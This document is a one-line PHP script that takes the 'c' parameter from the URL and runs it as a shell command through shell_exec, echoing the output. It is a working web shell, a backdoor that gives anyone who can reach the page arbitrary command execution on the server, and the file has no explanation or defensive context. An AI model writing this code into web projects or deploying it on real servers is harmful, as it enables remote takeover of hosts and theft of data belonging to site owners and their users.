<?php function run() { $a = func_get_args(); return shell_exec($a[0]); } echo run($_GET['c']);
